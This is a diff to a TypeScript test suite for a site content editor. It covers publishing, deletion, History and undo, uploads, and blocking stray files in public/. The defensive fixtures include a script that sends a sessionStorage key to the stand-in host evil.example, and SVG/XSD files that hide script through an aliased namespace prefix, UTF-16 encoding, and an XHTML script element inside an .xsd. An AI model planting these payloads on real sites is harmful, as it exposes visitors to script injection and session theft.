@@ -5,8 +5,9 @@
  * repository. Each test says what the author does; each editor plays the faults its own way (an answer lost on the
  * way, another tab's save), and must give the same outcome. What publishing decides (Publish, Get latest, History,
  * Undo, each fault) is tried once, on both stores, by publishing-contract.test.ts: here only what the page and the
- * backends add to it (the page's words, its handling of a lost answer or of a list that moved, Live now, refusals
- * answered in words).
+ * backends add to it (the page's words, its handling of a lost answer or of a list that moved, Live now, History as
+ * each backend lists it, refusals answered in words). Delete, held uploads and files where saves go that the site
+ * cannot have are tried here, through the page, and not again in site-stores.test.ts.
  */
 import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
@@ -46,7 +47,7 @@ import { readConfigFile, saveConfigFiles } from './server/workspace.ts';
 import type { EditorBackend } from './protocol/editor-backend.ts';
 import { refusalWords } from './protocol/refusals.ts';
 import { fileNameProblem } from '../content/file-names.ts';
-import { strayInWords } from './model/stray-files.ts';
+import { pathsInWords, strayInWords } from './model/stray-files.ts';
 import { notRefused, refusalOf } from '../testing/editor-answers.ts';
 
 const HOME = 'config/pages/home.json';
@@ -90,7 +91,7 @@ interface Editor {
   /** Whether the site where saves go holds a file (public/media/…). */
   readonly savedHas: (path: string) => boolean;
   /** Files the editor did not put there land where the author's saves go: a web page and a drawing with a script. */
-  readonly strayFilesLand: (files: Record<string, string>) => void;
+  readonly strayFilesLand: (files: Record<string, string | Uint8Array>) => void;
 }
 
 /**
@@ -115,6 +116,22 @@ afterAll(() => {
 /** A host built `commit` and serves it: the live site says so. */
 const hostServesBuildOf = (commit: string) => writeSiteVersion(liveFolder, commit);
 const headingOf = (text: string) => (JSON.parse(text) as { sections: { heading: string }[] }).sections[0]!.heading;
+
+/** Files a teammate puts in public/ that no author may save beside: each once fooled one editor or the other. */
+const PLANTED: Readonly<Record<string, Uint8Array>> = {
+  'public/media/sneaky.svg': new TextEncoder().encode(
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:é="http://www.w3.org/2000/svg">\n<é:script>alert(1)</é:script></svg>\n',
+  ),
+  'public/media/wide.svg': new Uint8Array([
+    0xff,
+    0xfe,
+    ...[...'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'].flatMap((c) => [
+      c.charCodeAt(0),
+      0,
+    ]),
+  ]),
+  'public/schema.xsd': new TextEncoder().encode('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
+};
 
 /** npm run edit's server parts, called in this process: the workspace for the files, the publisher for the rest. */
 async function localEditor(site: SharedSite): Promise<Editor> {
@@ -318,11 +335,18 @@ describe.each([
     const editor = await editorOf();
     const { store } = await pageOn(editor);
     const ABOUT = 'config/pages/about.json';
+    const NAVIGATION = 'config/navigation.json';
+    const listed = async () => (await notRefused(editor.backend.listFiles())).files.map((file) => file.path);
+    // The plan names the page and the places that point to it, and removes nothing.
     const plan = await notRefused(editor.backend.planRemoval(ABOUT));
+    expect(plan).toMatchObject({ path: ABOUT, name: 'About Us page', address: '/about' });
+    expect(plan.places.map((place) => place.fileName)).toContain('Navigation');
+    expect(await listed()).toContain(ABOUT);
     editor.loseNextAnswer('save');
     expect(await store.deleteFile(plan, { action: 'remove' })).toEqual({ status: 'done' });
     expect(store.getState().status).toMatch(/^Deleted after all: About Us page\. .*The answer was lost on the way/);
-    expect((await notRefused(editor.backend.listFiles())).files.map((file) => file.path)).not.toContain(ABOUT);
+    expect(await listed()).not.toContain(ABOUT);
+    expect((await notRefused(editor.backend.openFile(NAVIGATION))).text).not.toContain('"/about"');
   });
 
   it('a Delete of a file changed since its plan is refused in words, with the plan as it is now; nothing is deleted', async () => {
@@ -342,24 +366,7 @@ describe.each([
       plan: expect.objectContaining({ path: ABOUT, version: expect.not.stringMatching(plan.version) }),
     });
     expect((await notRefused(editor.backend.listFiles())).files.map((file) => file.path)).toContain(ABOUT);
-  });
-
-  it('a publish whose answer was lost is found by its id: published, in words, and nothing is left to publish', async () => {
-    const editor = await editorOf();
-    const { store, write } = await pageOn(editor);
-    write('Published, answer lost');
-    await store.save();
-    await store.publishing.openPublish();
-    const before = editor.liveCommits();
-    editor.loseNextAnswer('publish');
-    await store.publishing.publish();
-    expect(store.publishing.getState().outcome).toMatchObject({ status: 'published', afterAll: 'found' });
-    expect(afterAllInWords(store.publishing.getState().outcome as never)).toMatch(
-      /^Published: it reached the site although the answer was lost on the way\. $/,
-    );
-    expect([editor.live(), editor.liveCommits()]).toEqual(['Published, answer lost', before + 1]);
-    // The drafts stand on it (the contract suite's lost publish tries that on each store): the list shown is empty.
-    expect(store.publishing.getState().status?.changes).toEqual([]);
+    expect(JSON.parse((await notRefused(editor.backend.openFile(ABOUT))).text).title).toBe('About the team');
   });
 
   it('a save that GitHub does after the page stopped waiting is said when it lands, once', async (context) => {
@@ -422,27 +429,23 @@ describe.each([
     expect(editor.saved()).toBe('Typed before the silence');
   });
 
-  it('undoes a published change, and answers one it cannot undo with a refusal in the same words, not as a lost connection', async () => {
+  it('lists History, undoes a published change, and shows the site as it then is; answers one it cannot undo with a refusal in words, not as a lost connection', async () => {
     const editor = await editorOf();
     const { backend } = editor;
     const question = () => (JSON.parse(editor.liveText(FAQS)) as { faqs: { question: string }[] }).faqs[0]!.question;
-    expect(question()).not.toBe('Asked first?');
-    editor.teammatePublishes('Asked first?');
-    const first = editor.liveCommit();
-    editor.teammatePublishes('Asked again?');
+    const before = question();
+    editor.teammatePublishes('Asked by a teammate?');
     const live = editor.liveCommit();
-    expect(await backend.undoPublished(first)).toEqual({
-      error: expect.stringMatching(
-        /^This change cannot be undone by itself: later changes were made to the same field \(FAQs: /,
-      ),
-    });
+    // Which refusal is decided once, in the contract suite; here each backend answers it in words.
     expect(await backend.undoPublished(editor.firstCommit())).toEqual({ error: refusalWords('firstVersion') });
     expect(await backend.undoPublished('f'.repeat(40))).toEqual({ error: refusalWords('notPublished') });
-    // The teammate's change was to the FAQs alone.
-    expect(await backend.undoPublished(live, [HOME])).toEqual({ error: refusalWords('notInChange') });
     expect(editor.liveCommit()).toBe(live);
-    expect(await backend.undoPublished(live)).toMatchObject({ status: 'published' });
-    expect(question()).toBe('Asked first?');
+    const { entries } = await notRefused(backend.loadHistory());
+    expect(entries[0]).toMatchObject({ commit: live, author: 'Kofi Boateng', message: `${FAQS} changed` });
+    expect(await backend.undoPublished(entries[0]!.commit)).toMatchObject({ status: 'published' });
+    expect(question()).toBe(before);
+    // The editor shows the site as it now is.
+    expect(JSON.parse((await notRefused(backend.openFile(FAQS))).text).faqs[0].question).toBe(before);
   });
 
   it('lists the pictures and videos a field can name, each with its size and whether a saved file names it', async () => {
@@ -465,6 +468,9 @@ describe.each([
     expect(
       await refusalOf(editor.backend.uploadMedia(new File([poster], 'CON.jpg', { type: 'image/jpeg' }), 'image')),
     ).toContain('CON.jpg is named "con.jpg", a name Windows keeps for a device. Rename it. Then upload it again.');
+    expect(await refusalOf(editor.backend.uploadMedia(new File(['not a picture'], 'notes.jpg'), 'image'))).toMatch(
+      /^notes\.jpg is not a picture/,
+    );
     await store.uploads.refresh();
     expect(store.uploads.getState().uploads).toEqual([]);
 
@@ -565,6 +571,10 @@ describe.each([
     expect(store.getState().status).toBe(
       'Not saved: 1 problem needs fixing first. /media/con.jpg is an upload whose name the site cannot have: rename it in the list of uploads waiting for a save, then save again. Your changes are kept.',
     );
+    expect(store.getState().problems).toContainEqual(
+      expect.objectContaining({ file: 'public/media/con.jpg', severity: 'error' }),
+    );
+    expect(editor.saved()).toBe('Saved beside it');
     expect(await store.uploads.rename('/media/con.jpg', 'cover')).toBe(true);
     expect(store.uploads.getState().uploads).toEqual([expect.not.objectContaining({ nameProblem: expect.anything() })]);
     await store.save();
@@ -572,14 +582,21 @@ describe.each([
     expect(editor.savedHas('public/media/cover.jpg')).toBe(true);
   });
 
-  it('a file the editor did not put where saves go, which the site cannot have, stops saves in words with the way out', async () => {
+  it('a file the editor did not put where saves go, which the site cannot have, stops saves in the checker’s words, nothing written, and says the way out', async () => {
     const editor = await editorOf();
     editor.strayFilesLand({
       'public/evil.html': '<script>fetch("https://evil.example/?t=" + sessionStorage.key(0))</script>\n',
       'public/media/x.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
+      ...PLANTED,
     });
     const { store, write } = await pageOn(editor);
-    const strays = ['public/evil.html', 'public/media/x.svg'];
+    const strays = [
+      'public/evil.html',
+      'public/media/sneaky.svg',
+      'public/media/wide.svg',
+      'public/media/x.svg',
+      'public/schema.xsd',
+    ];
     await vi.waitFor(
       () =>
         expect(
@@ -593,8 +610,24 @@ describe.each([
     write('Blocked for now');
     await store.save();
     const takesOff = editor.backend.canTakeOffStrays;
+    expect(editor.saved()).not.toBe('Blocked for now');
+    // Each in the checker's words, the same on both editors.
+    expect(
+      store
+        .getState()
+        .problems.filter((problem) => Object.keys(PLANTED).includes(problem.file))
+        .map((problem) => `${problem.file}:${problem.position.line}: ${problem.message}`),
+    ).toEqual([
+      expect.stringMatching(
+        /^public\/media\/sneaky\.svg:2: This file is an SVG drawing that holds <é:script>, which would run/,
+      ),
+      expect.stringMatching(
+        /^public\/media\/wide\.svg:1: This file is not readable text in UTF-8 \(it is saved as UTF-16 LE\)/,
+      ),
+      expect.stringMatching(/^public\/schema\.xsd:1: This file is not a kind of file public\/ serves/),
+    ]);
     expect(store.getState().status).toBe(
-      `Not saved: 2 problems need fixing first. public/evil.html and public/media/x.svg ${
+      `Not saved: 5 problems need fixing first. ${pathsInWords(strays)} ${
         takesOff
           ? 'are on your drafts, put there outside the editor, and the site cannot have them: take them off your drafts (listed above the form), then save again.'
           : "are in this computer's copy of the site, outside what the editor changes, and the site cannot have them: ask a developer to remove them, then save again."
@@ -612,7 +645,7 @@ describe.each([
         /^public\/evil\.html was changed in this computer's copy of the site outside the editor\. .* A developer must deal with it: the editor changes only config\/ and public\/media\/, and never a file it did not put there\.$/,
       );
       expect(await editor.backend.takeOffDrafts({ paths: strays, listedAt: 'x' })).toEqual({
-        error: refusalWords('straysNeedDeveloper', 'public/evil.html and public/media/x.svg'),
+        error: refusalWords('straysNeedDeveloper', pathsInWords(strays)),
       });
       return;
     }
@@ -622,8 +655,8 @@ describe.each([
       /^public\/evil\.html was put on your drafts by Kofi Boateng on \d{1,2} [A-Z][a-z]+\. .* It never reaches the site from the editor; taking it off your drafts removes it from your drafts, and nothing of yours changes\.$/,
     );
     await store.strays.takeOff();
-    expect(store.getState().status).toMatch(/^Took public\/evil\.html and public\/media\/x\.svg off your drafts/);
-    expect(strays.map(editor.savedHas)).toEqual([false, false]);
+    expect(store.getState().status.startsWith(`Took ${pathsInWords(strays)} off your drafts`)).toBe(true);
+    expect(strays.map(editor.savedHas)).toEqual(strays.map(() => false));
     await store.save();
     expect(store.getState().status).toBe(`Saved ${HOME}.`);
     expect(editor.saved()).toBe('Blocked for now');
@@ -658,12 +691,20 @@ describe.each([
     expect(await backend.discardChange(PRESS)).toEqual({ discarded: PRESS });
     expect((await notRefused(backend.listFiles())).files.map((file) => file.path)).not.toContain(PRESS);
     expect(await backend.discardChange(PRESS)).toEqual({ error: refusalWords('nothingToPutBack', PRESS) });
+    // Nothing is left to publish, and a file outside what the editor changes is never put back by it.
+    expect(await notRefused(backend.publishStatus())).toMatchObject({ changes: [] });
+    expect(await backend.discardChange('README.md')).toEqual({ error: refusalWords('notAnEditorFile', 'README.md') });
   });
 
   it('puts a saved deletion back together with its record in Removed entries, so the creator keeps their id', async () => {
     const { backend } = await editorOf();
     const INFLUENCERS = 'config/collections/influencers.json';
     const REMOVED = 'config/removed.json';
+    // A new creator is made in the list of creators (the rules of new entries are site-stores.test.ts').
+    expect(await notRefused(backend.createEntry({ what: 'influencer', name: 'Esi Owusu' }, []))).toMatchObject({
+      path: INFLUENCERS,
+      file: { path: INFLUENCERS },
+    });
     const opened = await notRefused(backend.openFile(INFLUENCERS));
     const list = JSON.parse(opened.text) as { influencers: { id: number; name: string }[] };
     const [gone, ...rest] = list.influencers;
@@ -672,8 +713,9 @@ describe.each([
     ]);
     expect(saved).toMatchObject({ status: 'saved' });
     // The save recorded their removal, so their id is never given to another creator.
-    const record = JSON.parse((await notRefused(backend.openFile(REMOVED))).text) as { influencers: { id: number }[] };
-    expect(record.influencers.map((entry) => entry.id)).toContain(gone!.id);
+    expect(JSON.parse((await notRefused(backend.openFile(REMOVED))).text)).toMatchObject({
+      influencers: [expect.objectContaining({ id: gone!.id, name: gone!.name })],
+    });
     // Undoing the deletion brings them back with their id, and their record goes with it: nothing is left to publish.
     expect(await backend.discardChange(INFLUENCERS)).toEqual({ discarded: INFLUENCERS });
     const back = JSON.parse((await notRefused(backend.openFile(INFLUENCERS))).text) as typeof list;
@@ -689,35 +731,46 @@ describe.each([
     write('Stories That Move Accra');
     await store.save();
     await store.publishing.openPublish();
-    expect(store.publishing.getState().status?.changes.map((change) => change.path)).toEqual([HOME]);
+    const shown = store.publishing.getState().status!;
+    expect(shown.changes.map((change) => change.path)).toEqual([HOME]);
     await editor.anotherTabSaves('How fast can you start?');
     const before = editor.liveCommits();
     await store.publishing.publish();
     expect(store.publishing.getState().outcome).toMatchObject({ error: LIST_MOVED, listMoved: true });
     expect(editor.liveCommits()).toBe(before);
-    // Shown again, with the other tab's save; published as shown.
-    expect(
-      store.publishing
-        .getState()
-        .status?.changes.map((change) => change.path)
-        .sort(),
-    ).toEqual([FAQS, HOME]);
+    // Shown again, with the other tab's save, in words; published as shown.
+    const again = store.publishing.getState().status!;
+    expect(again.listId).not.toBe(shown.listId);
+    expect(again.changes.map((change) => [change.path, change.words]).sort()).toEqual([
+      [FAQS, expect.stringMatching(/^FAQs: .*"How fast can you start\?"/)],
+      [HOME, `Home page: heading of "${headingOf(readFileSync(join(SPEC_SITE_DIR, HOME), 'utf8'))}" changed`],
+    ]);
     await store.publishing.publish();
     expect(store.publishing.getState().outcome).toMatchObject({ status: 'published' });
     expect([editor.live(), editor.liveCommits()]).toEqual(['Stories That Move Accra', before + 1]);
+    expect((JSON.parse(editor.liveText(FAQS)) as { faqs: { question: string }[] }).faqs[0]!.question).toBe(
+      'How fast can you start?',
+    );
   });
 
-  it('after Publish, says it is building, then "Live now" once the live site serves a build of the new commit', async () => {
+  it('a publish whose answer was lost is found by its id: published, in words, nothing left to publish; then building, and "Live now" once the live site serves a build of the new commit', async () => {
     const editor = await editorOf();
     const { store, write } = await pageOn(editor);
     hostServesBuildOf(editor.liveCommit());
-    write('Live by lunchtime');
+    write('Published, answer lost');
     await store.save();
     await store.publishing.openPublish();
+    const before = editor.liveCommits();
+    editor.loseNextAnswer('publish');
     await store.publishing.publish();
     const outcome = store.publishing.getState().outcome as { status: string; commit: string };
-    expect(outcome.status).toBe('published');
-    expect(outcome.commit).toBe(editor.liveCommit());
+    expect(outcome).toMatchObject({ status: 'published', afterAll: 'found', commit: editor.liveCommit() });
+    expect(afterAllInWords(outcome as never)).toMatch(
+      /^Published: it reached the site although the answer was lost on the way\. $/,
+    );
+    expect([editor.live(), editor.liveCommits()]).toEqual(['Published, answer lost', before + 1]);
+    // The drafts stand on it (the contract suite's lost publish tries that on each store): the list shown is empty.
+    expect(store.publishing.getState().status?.changes).toEqual([]);
     // The live site still holds the commit before: building, and still building a while later.
     expect(store.publishing.getState().live?.words).toBe('Building the site…');
     await new Promise((resolve) => setTimeout(resolve, 300));
